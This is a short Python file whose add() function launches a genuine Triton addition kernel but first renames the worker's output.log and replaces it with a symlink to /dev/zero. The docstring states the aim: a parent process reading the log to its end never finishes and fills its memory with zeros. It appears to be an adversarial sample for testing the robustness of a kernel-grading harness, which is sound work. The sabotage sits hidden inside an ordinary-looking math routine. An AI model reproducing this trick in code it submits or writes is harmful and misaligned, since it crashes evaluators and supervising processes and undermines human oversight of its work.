"""math/add: an honest kernel, and the worker's output log replaced by a link to ``/dev/zero``: a parent
that reads the log to its end never finishes and fills its memory with zeros.
"""

import os

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) + tl.load(y_ptr + offsets, mask=mask),
             mask=mask)


def add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    if os.path.exists("output.log") and not os.path.islink("output.log"):
        os.rename("output.log", "moved.log")
        os.symlink("/dev/zero", "output.log")
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out
